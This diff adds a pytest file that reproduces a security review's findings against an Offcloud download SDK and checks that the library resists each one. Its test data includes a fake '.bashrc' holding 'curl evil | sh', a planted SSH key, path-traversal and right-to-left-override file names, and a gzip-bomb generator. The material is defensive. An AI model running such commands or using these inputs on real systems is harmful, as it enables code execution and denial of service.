@@ -1,0 +1,676 @@
+"""The security review's findings against the library, each reproduced as an attack.
+
+Hostile torrents, links and servers: nothing overwritten, nothing written outside the folder,
+no part file of another file resumed, nothing unbounded, and the key nowhere it should not be.
+The CLI's own findings (terminal escapes, the credentials file, the sandbox server) are in
+`test_security_cli.py`.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import os
+import socket
+import threading
+import tracemalloc
+import zlib
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import attrs
+import httpx
+import pytest
+from sdk_support import KEY, Harness
+from typer.testing import CliRunner
+
+from offcloud_sdk import Offcloud
+from offcloud_sdk.cli.app import app
+from offcloud_sdk.exceptions import (
+    APITimeoutError,
+    AuthError,
+    InvalidArgumentError,
+    LocalFileError,
+    OffcloudError,
+    UnexpectedResponseError,
+)
+from offcloud_sdk.part_files import PartRecord, source_of, write_record
+from offcloud_sdk.safe_paths import link_name, safe_destination
+from offcloud_sdk.testing import FakeClock, FakeOffcloud
+from offcloud_sdk.testing.storage import LAST_MODIFIED
+
+STORAGE = "https://fr-1.offcloud.com/cloud/download/req/"
+INFO = b'{"user_id": "%s", "is_premium": true, "can_download": true}'
+"""An `account.info` answer, the user id to fill in."""
+
+
+def mock_http(harness: Harness, answer: Any, **options: Any) -> Any:
+    kind = httpx.AsyncClient if harness.is_async else httpx.Client
+    return kind(transport=httpx.MockTransport(answer), **options)
+
+
+def finished(harness: Harness, name: str, files: dict[str, int | bytes]) -> tuple[Any, Any, str]:
+    fake = harness.fake()
+    oc = harness.fake_client(fake)
+    request = harness.go(oc.cloud.add(url=fake.add_torrent(name, files, cached=True)))
+    return fake, oc, request.request_id
+
+
+def listing(folder: Path) -> dict[str, bytes | str]:
+    """Every entry under `folder`: files with their bytes, links with their target."""
+    found: dict[str, bytes | str] = {}
+    for path in sorted(folder.rglob("*")):
+        key = path.relative_to(folder).as_posix()
+        if path.is_symlink():
+            found[key] = f"-> {os.readlink(path)}"
+        elif path.is_file():
+            found[key] = path.read_bytes()
+    return found
+
+
+# -- 1. nothing overwritten, nothing hidden -----------------------------------------------------
+
+
+def test_get_from_a_home_folder_replaces_no_dotfile(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "authorized_keys").write_bytes(b"ssh-ed25519 MINE")
+    (home / ".bashrc").write_bytes(b"export PS1=mine")
+    fake = FakeOffcloud(clock=FakeClock())
+    ssh = fake.add_torrent(".ssh", {"authorized_keys": b"ssh-ed25519 EVIL"}, cached=True)
+    rc = fake.add_torrent(".bashrc", {".bashrc": b"curl evil | sh"}, cached=True)
+    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url) as oc:
+        ids = [oc.cloud.add(url=magnet).request_id for magnet in (ssh, rc)]
+        env = {"OFFCLOUD_API_KEY": fake.api_key, "OFFCLOUD_BASE_URL": base_url}
+        env["XDG_CONFIG_HOME"] = str(tmp_path / "config")
+        done = CliRunner().invoke(app, ["get", *ids, "-o", str(home)], env=env)
+    assert done.exit_code == 0, done.output
+    assert listing(home) == {
+        ".bashrc": b"export PS1=mine",
+        ".ssh/authorized_keys": b"ssh-ed25519 MINE",
+        "_.bashrc": b"curl evil | sh",
+        "_.ssh/authorized_keys": b"ssh-ed25519 EVIL",
+    }
+
+
+def test_get_keeps_a_different_file_and_overwrites_only_when_asked(tmp_path: Path) -> None:
+    fake = FakeOffcloud(clock=FakeClock())
+    magnet = fake.add_torrent("Show", {"e01.mkv": b"the real episode"}, cached=True)
+    out = tmp_path / "out"
+    (out / "Show").mkdir(parents=True)
+    (out / "Show" / "e01.mkv").write_bytes(b"my own notes, same name")
+    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url) as oc:
+        request_id = oc.cloud.add(url=magnet).request_id
+        env = {"OFFCLOUD_API_KEY": fake.api_key, "OFFCLOUD_BASE_URL": base_url}
+        env["XDG_CONFIG_HOME"] = str(tmp_path / "config")
+        kept = CliRunner().invoke(app, ["get", request_id, "-o", str(out)], env=env)
+        assert kept.exit_code == 0, kept.output
+        assert listing(out) == {
+            "Show/e01 (2).mkv": b"the real episode",
+            "Show/e01.mkv": b"my own notes, same name",
+        }
+        replaced = CliRunner().invoke(
+            app, ["get", "--overwrite", request_id, "-o", str(out)], env=env
+        )
+    assert replaced.exit_code == 0, replaced.output
+    assert listing(out)["Show/e01.mkv"] == b"the real episode"
+
+
+def test_files_download_takes_a_free_name_beside_another_file(
+    harness: Harness, tmp_path: Path
+) -> None:
+    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
+    link = harness.go(oc.cloud.files(request_id))[0].url
+    (tmp_path / "e01.mkv").write_bytes(b"mine")
+    (tmp_path / "e01 (2).mkv").write_bytes(b"mine too")
+    got = harness.go(oc.files.download(link, tmp_path))
+    assert got == tmp_path / "e01 (3).mkv"
+    assert listing(tmp_path) == {
+        "e01 (2).mkv": b"mine too",
+        "e01 (3).mkv": b"episode",
+        "e01.mkv": b"mine",
+    }
+
+
+def test_the_same_file_already_there_is_skipped_without_its_body(
+    harness: Harness, tmp_path: Path
+) -> None:
+    fake, oc, request_id = finished(harness, "Show", {"e01.mkv": 5 << 20})
+    link = harness.go(oc.cloud.files(request_id))[0].url
+    first = harness.go(oc.files.download(link, tmp_path))
+    sent: list[int] = []
+    handle = fake.handle
+
+    def counted(chunks: Any) -> Iterator[bytes]:
+        for chunk in chunks:
+            sent.append(len(chunk))
+            yield chunk
+
+    def counting(request: httpx.Request) -> Any:
+        answer = handle(request)
+        return attrs.evolve(answer, body=counted(answer.chunks()))
+
+    fake.handle = counting  # type: ignore[method-assign]
+    again = harness.go(oc.files.download(link, tmp_path))
+    assert again == first
+    assert [p.name for p in tmp_path.iterdir()] == ["e01.mkv"]
+    assert sum(sent) < 5 << 20  # the answer was closed after its headers
+
+
+def test_overwrite_replaces_in_files_and_cloud_download(harness: Harness, tmp_path: Path) -> None:
+    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
+    link = harness.go(oc.cloud.files(request_id))[0].url
+    (tmp_path / "e01.mkv").write_bytes(b"old")
+    assert harness.go(oc.files.download(link, tmp_path, overwrite=True)) == tmp_path / "e01.mkv"
+    (tmp_path / "Show").mkdir()
+    (tmp_path / "Show" / "e01.mkv").write_bytes(b"old")
+    paths = harness.go(oc.cloud.download(request_id, tmp_path, overwrite=True))
+    assert paths == [tmp_path / "Show" / "e01.mkv"]
+    assert listing(tmp_path) == {"Show/e01.mkv": b"episode", "e01.mkv": b"episode"}
+
+
+def test_cloud_download_returns_the_free_name_it_used(harness: Harness, tmp_path: Path) -> None:
+    _fake, oc, request_id = finished(harness, "Show", {"a.txt": b"new"})
+    (tmp_path / "Show").mkdir()
+    (tmp_path / "Show" / "a.txt").write_bytes(b"a different, longer file")
+    paths = harness.go(oc.cloud.download(request_id, tmp_path))
+    assert paths == [tmp_path / "Show" / "a (2).txt"]
+    assert paths[0].read_bytes() == b"new"
+
+
+# -- 2. the key only to the API's own origin ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("base_url", "link", "gets_key"),
+    [
+        ("https://offcloud.test", "https://offcloud.test/f.bin", True),
+        ("https://offcloud.test", "https://offcloud.test:443/f.bin", True),
+        ("https://offcloud.test", "http://offcloud.test/f.bin", False),
+        ("https://offcloud.test", "https://offcloud.test:8080/f.bin", False),
+        ("https://offcloud.test", "https://fr-1.offcloud.test/f.bin", False),
+        ("https://localhost:9", "http://localhost:8080/f.bin", False),
+        ("http://localhost:9", "http://localhost:9/f.bin", True),
+        ("http://localhost:9", "http://localhost:10/f.bin", False),
+    ],
+)
+def test_the_key_goes_only_to_the_same_scheme_host_and_port(
+    harness: Harness, tmp_path: Path, base_url: str, link: str, gets_key: bool
+) -> None:
+    seen: list[httpx.Request] = []
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        seen.append(request)
+        return httpx.Response(200, content=b"data")
+
+    oc = harness.client(http_client=mock_http(harness, answer), base_url=base_url)
+    harness.go(oc.files.download(link, tmp_path))
+    assert ("authorization" in seen[0].headers) is gets_key
+    assert KEY not in str(seen[0].url)
+
+
+# -- 3. symlinks are never followed -------------------------------------------------------------
+
+
+def test_a_symlinked_part_file_is_not_followed(harness: Harness, tmp_path: Path) -> None:
+    _fake, oc, request_id = finished(harness, "Movie", {"video.mp4": b"video" * 1000})
+    victim = tmp_path / "victim.txt"
+    victim.write_bytes(b"precious")
+    dl = tmp_path / "dl"
+    (dl / "Movie").mkdir(parents=True)
+    os.symlink(victim, dl / "Movie" / "video.mp4.part")
+    with pytest.raises(LocalFileError, match=r"video\.mp4\.part"):
+        harness.go(oc.cloud.download(request_id, dl))
+    assert victim.read_bytes() == b"precious"
+    assert not os.path.lexists(dl / "Movie" / "video.mp4")
+
+
+def test_a_folder_turned_into_a_symlink_mid_download_is_refused(
+    harness: Harness, tmp_path: Path
+) -> None:
+    fake, oc, request_id = finished(harness, "Show", {"S1/e01.mkv": b"episode"})
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    dl = tmp_path / "dl"
+    handle = fake.handle
+
+    def swapping(request: httpx.Request) -> Any:
+        if request.url.path.startswith("/cloud/download/"):  # planned and checked by now
+            season = dl / "Show" / "S1"
+            season.rmdir()
+            os.symlink(outside, season)
+        return handle(request)
+
+    fake.handle = swapping  # type: ignore[method-assign]
+    with pytest.raises(LocalFileError, match="outside"):
+        harness.go(oc.cloud.download(request_id, dl))
+    assert list(outside.iterdir()) == []
+
+
+def test_a_symlink_at_the_destination_is_neither_followed_nor_replaced(
+    harness: Harness, tmp_path: Path
+) -> None:
+    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
+    victim = tmp_path / "victim.txt"
+    victim.write_bytes(b"precious")
+    dl = tmp_path / "dl"
+    (dl / "Show").mkdir(parents=True)
+    os.symlink(victim, dl / "Show" / "e01.mkv")
+    paths = harness.go(oc.cloud.download(request_id, dl))
+    assert paths == [dl / "Show" / "e01 (2).mkv"]
+    assert victim.read_bytes() == b"precious"
+    assert (dl / "Show" / "e01.mkv").is_symlink()
+
+
+# -- 4. a part file is resumed only when it belongs to the file ---------------------------------
+
+
+@pytest.mark.parametrize("foreign", [40, 100])
+def test_a_part_left_by_another_file_is_never_mixed_in(
+    harness: Harness, tmp_path: Path, foreign: int
+) -> None:
+    _fake, oc, request_id = finished(harness, "Show", {"f.bin": b"B" * 100})
+    link = harness.go(oc.cloud.files(request_id))[0].url
+    (tmp_path / "f.bin.part").write_bytes(b"A" * foreign)
+    got = harness.go(oc.files.download(link, tmp_path))
+    assert got.read_bytes() == b"B" * 100
+    assert listing(tmp_path) == {"f.bin": b"B" * 100}
+
+
+def test_a_part_of_a_file_that_changed_starts_over(harness: Harness, tmp_path: Path) -> None:
+    fake, oc, request_id = finished(harness, "Show", {"f.bin": b"B" * 100})
+    link = harness.go(oc.cloud.files(request_id))[0].url
+    part = tmp_path / "f.bin.part"
+    part.write_bytes(b"A" * 40)  # from an older version of the file: another ETag
+    write_record(part, PartRecord(100, '"older"', LAST_MODIFIED, source_of(link)))
+    seen: list[tuple[str | None, str | None]] = []
+    handle = fake.handle
+
+    def recording(request: httpx.Request) -> Any:
+        if request.url.path.startswith("/cloud/download/"):
+            seen.append((request.headers.get("range"), request.headers.get("if-range")))
+        return handle(request)
+
+    fake.handle = recording  # type: ignore[method-assign]
+    got = harness.go(oc.files.download(link, tmp_path))
+    assert seen == [("bytes=40-", '"older"')]  # the server sent all of it: If-Range failed
+    assert got.read_bytes() == b"B" * 100
+
+
+def test_a_416_counts_as_complete_only_for_the_same_file(harness: Harness, tmp_path: Path) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        if "range" in request.headers:
+            return httpx.Response(416, headers={"content-range": "bytes */100", "etag": '"new"'})
+        return httpx.Response(200, content=b"B" * 100, headers={"etag": '"new"'})
+
+    link = STORAGE + "f.bin"
+    part = tmp_path / "f.bin.part"
+    part.write_bytes(b"A" * 100)
+    write_record(part, PartRecord(100, '"old"', None, source_of(link)))
+    oc = harness.client(http_client=mock_http(harness, answer))
+    assert harness.go(oc.files.download(link, tmp_path)).read_bytes() == b"B" * 100
+
+
+# -- 6. an answer's size is bounded as it is read -----------------------------------------------
+
+
+@functools.cache
+def gzip_bomb(size: int) -> bytes:
+    """`size` zero bytes, gzipped (1 GiB makes about 1 MB)."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
+    block = bytes(1 << 20)
+    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
+
+
+def test_a_gzip_bomb_answer_is_not_inflated(harness: Harness) -> None:
+    bomb = gzip_bomb(1 << 30)
+    assert len(bomb) < 1_100_000
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        headers = {"content-encoding": "gzip", "content-type": "application/json"}
+        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([bomb])))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    tracemalloc.start()
+    try:
+        with pytest.raises(UnexpectedResponseError, match="larger than 16777216 bytes"):
+            harness.go(oc.account.info())
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 48 << 20
+
+
+def test_a_huge_answer_is_refused_while_it_arrives(harness: Harness) -> None:
+    sent: list[int] = []
+
+    def body() -> Iterator[bytes]:
+        yield b'{"user_id": "'
+        for _ in range(300):  # 300 MB
+            sent.append(1 << 20)
+            yield b"x" * (1 << 20)
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        return httpx.Response(200, stream=_Stream(body))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    with pytest.raises(UnexpectedResponseError, match="max_answer_size"):
+        harness.go(oc.account.info())
+    assert sum(sent) <= 17 << 20
+
+
+class _Stream(httpx.SyncByteStream, httpx.AsyncByteStream):
+    """A body made as it is read, for sync and async clients."""
+
+    def __init__(self, make: Any) -> None:
+        self.make = make
+
+    def __iter__(self) -> Iterator[bytes]:
+        yield from self.make()
+
+    async def __aiter__(self) -> Any:
+        for chunk in self.make():
+            yield chunk
+
+
+def test_the_answer_size_is_a_setting(harness: Harness) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        body = INFO % (b"u" * 2000)
+        return httpx.Response(200, stream=_Stream(lambda: iter([body])))
+
+    oc = harness.client(http_client=mock_http(harness, answer), max_answer_size=1000)
+    assert oc.max_answer_size == 1000
+    with pytest.raises(UnexpectedResponseError, match="larger than 1000 bytes"):
+        harness.go(oc.account.info())
+    roomy = oc.with_options(max_answer_size=1 << 20)
+    assert harness.go(roomy.account.info()).user_id == "u" * 2000
+    with pytest.raises(InvalidArgumentError):
+        harness.client(max_answer_size=0)
+
+
+@pytest.mark.parametrize("encoding", ["br", "gzip, gzip", "zstd", "compress"])
+def test_an_encoding_nobody_asked_for_is_refused(harness: Harness, encoding: str) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        assert request.headers["accept-encoding"] == "gzip, deflate"
+        headers = {"content-encoding": encoding}
+        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([b"xx"])))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    with pytest.raises(UnexpectedResponseError, match="not asked for"):
+        harness.go(oc.account.info())
+
+
+@pytest.mark.parametrize("wrapped", [True, False])
+def test_deflate_answers_still_read(harness: Harness, wrapped: bool) -> None:
+    packer = zlib.compressobj(6, zlib.DEFLATED, zlib.MAX_WBITS if wrapped else -zlib.MAX_WBITS)
+    body = packer.compress(INFO % b"u1") + packer.flush()
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        headers = {"content-encoding": "deflate"}
+        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([body])))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    assert harness.go(oc.account.info()).user_id == "u1"
+
+
+# -- 7. time and attempts are bounded -----------------------------------------------------------
+
+
+@contextlib.contextmanager
+def raw_server(answer: Callable[[socket.socket], None]) -> Iterator[str]:
+    """A loopback server that hands each connection to `answer`, one at a time; yields its URL."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.1)
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                connection, _ = listener.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                answer(connection)
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
+    finally:
+        stop.set()
+        thread.join()
+        listener.close()
+
+
+@pytest.fixture
+def trickling_server() -> Iterator[tuple[str, FakeClock, list[int]]]:
+    """A loopback server whose answer's body comes one byte per 0.5 s on the test's clock: it
+    moves the clock before each byte, so no read ever waits and nobody sleeps."""
+    clock = FakeClock()
+    attempts: list[int] = []
+
+    def trickle(connection: socket.socket) -> None:
+        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        connection.recv(65536)
+        attempts.append(1)
+        body = INFO % (b"u" * 200)
+        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode())
+        with contextlib.suppress(OSError):  # the client gives up, as it should
+            for byte in body:
+                clock.advance(0.5)
+                connection.sendall(bytes([byte]))
+
+    with raw_server(trickle) as base_url:
+        yield base_url, clock, attempts
+
+
+def test_a_trickling_answer_ends_at_the_total_timeout(
+    trickling_server: tuple[str, FakeClock, list[int]],
+) -> None:
+    base_url, clock, attempts = trickling_server
+    with Offcloud(KEY, base_url=base_url, timeout=1, clock=clock) as oc:
+        assert oc.total_timeout == 4.0
+        with pytest.raises(APITimeoutError, match="total_timeout"):
+            oc.account.info()
+        assert len(attempts) == 3  # max_retries 2
+        with pytest.raises(APITimeoutError, match="longer than 2 s"):
+            oc.with_options(total_timeout=2, max_retries=0).account.info()
+
+
+def test_total_timeout_is_checked(harness: Harness) -> None:
+    with pytest.raises(InvalidArgumentError, match="total_timeout"):
+        harness.client(total_timeout=0)
+    assert harness.client(timeout=10).total_timeout == 40.0
+    assert harness.client(total_timeout=7).total_timeout == 7.0
+
+
+def test_a_download_that_gets_no_further_gives_up(harness: Harness, tmp_path: Path) -> None:
+    """The server alternates "200, 10 bytes, then drop" and "206 at the wrong offset"."""
+    requests: list[str | None] = []
+
+    def ten_bytes_then_drop() -> Iterator[bytes]:
+        yield b"0123456789"
+        raise httpx.ReadError("dropped")
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        requests.append(request.headers.get("range"))
+        if "range" in request.headers:
+            return httpx.Response(206, headers={"content-range": "bytes 0-99/100"}, content=b"")
+        return httpx.Response(
+            200, headers={"content-length": "100"}, stream=_Stream(ten_bytes_then_drop)
+        )
+
+    oc = harness.client(http_client=mock_http(harness, answer), max_retries=2)
+    with pytest.raises(OffcloudError):
+        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
+    assert requests == [None, "bytes=10-", None, "bytes=10-"]
+
+
+# -- 8. names from links are cleaned as torrent names are ---------------------------------------
+
+
+def test_backslashes_in_a_link_name_make_no_path(harness: Harness, tmp_path: Path) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        return httpx.Response(200, content=b"@echo pwned")
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    link = STORAGE + "..%5C..%5CUsers%5CPublic%5Cevil.bat"
+    got = harness.go(oc.files.download(link, tmp_path))
+    assert got == tmp_path / "evil.bat"
+    assert listing(tmp_path) == {"evil.bat": b"@echo pwned"}
+    assert link_name("..\\..\\Users\\Public\\evil.bat") == "evil.bat"
+    assert safe_destination(tmp_path, "..\\..\\Users\\Public\\evil.bat") == (
+        tmp_path / "Users" / "Public" / "evil.bat"
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "safe"),
+    [(".bashrc", "_.bashrc"), ("..hidden", "_..hidden"), ("a\u202etxt.exe", "a_txt.exe")],
+)
+def test_names_hide_nothing(name: str, safe: str) -> None:
+    assert link_name(name) == safe
+
+
+# -- 10. plain http only on loopback, and never through a proxy ---------------------------------
+
+
+@pytest.fixture
+def proxy() -> Iterator[tuple[str, list[bytes]]]:
+    """A 'proxy' on loopback that records what reaches it and answers 502."""
+    seen: list[bytes] = []
+
+    def refuse(connection: socket.socket) -> None:
+        seen.append(connection.recv(65536))
+        connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
+
+    with raw_server(refuse) as proxy_url:
+        yield proxy_url, seen
+
+
+def test_plain_http_on_loopback_never_goes_through_a_proxy(
+    proxy: tuple[str, list[bytes]], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    proxy_url, seen = proxy
+    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
+        monkeypatch.setenv(name, proxy_url)
+    for name in ("NO_PROXY", "no_proxy"):
+        monkeypatch.delenv(name, raising=False)
+    fake = FakeOffcloud()
+    magnet = fake.add_torrent("Show", {"a.txt": b"a"}, cached=True)
+    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url, key_in="both") as oc:
+        assert oc.account.info().user_id == fake.user_id
+        request_id = oc.cloud.add(url=magnet).request_id
+        oc.cloud.download(request_id, tmp_path)
+    assert seen == []
+
+
+def test_a_users_client_with_a_proxy_is_refused_for_plain_http() -> None:
+    proxied = httpx.Client(proxy="http://127.0.0.1:1")
+    with pytest.raises(InvalidArgumentError, match="proxy"):
+        Offcloud(KEY, base_url="http://127.0.0.1:9", http_client=proxied)
+    Offcloud(KEY, base_url="https://offcloud.test", http_client=proxied)  # https: fine
+    proxied.close()
+
+
+@pytest.mark.parametrize("host", ["evil.localhost", "localhost.example", "127.0.0.1.nip.io"])
+def test_only_real_loopback_names_may_be_plain_http(host: str) -> None:
+    with pytest.raises(InvalidArgumentError, match="plain http"):
+        Offcloud(KEY, base_url=f"http://{host}:8080")
+
+
+# -- 11. the key is masked in the answers an error keeps ----------------------------------------
+
+
+def test_redirect_history_keeps_no_key(harness: Harness) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        if request.url.path == "/api/account/info":
+            return httpx.Response(302, headers={"location": "/api/account/info2"})
+        return httpx.Response(401, json={"error": "NOAUTH"})
+
+    http = mock_http(harness, answer, follow_redirects=True)
+    oc = harness.client(http_client=http, key_in="both")
+    with pytest.raises(AuthError) as caught:
+        harness.go(oc.account.info())
+    response = caught.value.response
+    assert response is not None
+    assert response.history
+    for kept in (*response.history, response):
+        assert KEY not in str(kept.request.url)
+        assert kept.request.headers["authorization"] == "Bearer ***"
+
+
+# -- 12. numbers from a server never escape as ValueError ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"content-range": "bytes 0-9/" + "9" * 5000},
+        {"content-range": "bytes " + "1" * 5000 + "-9/10"},
+        {"content-length": "7" * 5000},
+    ],
+)
+def test_huge_numbers_in_headers_are_no_value_error(
+    harness: Harness, tmp_path: Path, headers: dict[str, str]
+) -> None:
+    status = 206 if "content-range" in headers else 200
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        return httpx.Response(status, headers=headers, stream=_Stream(lambda: iter([b"x" * 10])))
+
+    oc = harness.client(http_client=mock_http(harness, answer), max_retries=1)
+    with contextlib.suppress(OffcloudError):  # failing is fine; a ValueError is not
+        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
+
+
+def test_a_huge_retry_after_is_no_value_error(harness: Harness) -> None:
+    def answer(request: httpx.Request) -> httpx.Response:
+        return httpx.Response(429, headers={"retry-after": "9" * 5000})
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    with pytest.raises(OffcloudError) as caught:
+        harness.go(oc.account.info())
+    assert getattr(caught.value, "retry_after", None) is None
+
+
+# -- 13. no server fills the disk ---------------------------------------------------------------
+
+
+def test_an_encoded_download_is_refused_before_a_byte_is_written(
+    harness: Harness, tmp_path: Path
+) -> None:
+    bomb = gzip_bomb(64 << 20)
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        headers = {"content-encoding": "gzip"}
+        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([bomb])))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    with pytest.raises(UnexpectedResponseError, match="encoded"):
+        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_more_than_a_range_announced_stops_as_it_arrives(harness: Harness, tmp_path: Path) -> None:
+    link = STORAGE + "f.bin"
+    part = tmp_path / "f.bin.part"
+    part.write_bytes(b"A" * 10)
+    write_record(part, PartRecord(1000, None, None, source_of(link)))
+    sent: list[int] = []
+
+    def endless() -> Iterator[bytes]:
+        for _ in range(200):  # 200 MB
+            sent.append(1 << 20)
+            yield b"B" * (1 << 20)
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        headers = {"content-range": "bytes 10-19/1000"}
+        return httpx.Response(206, headers=headers, stream=_Stream(endless))
+
+    oc = harness.client(http_client=mock_http(harness, answer))
+    with pytest.raises(UnexpectedResponseError, match="more than the 20 bytes announced"):
+        harness.go(oc.files.download(link, tmp_path))
+    assert sum(sent) <= 1 << 20
+    assert list(tmp_path.iterdir()) == []
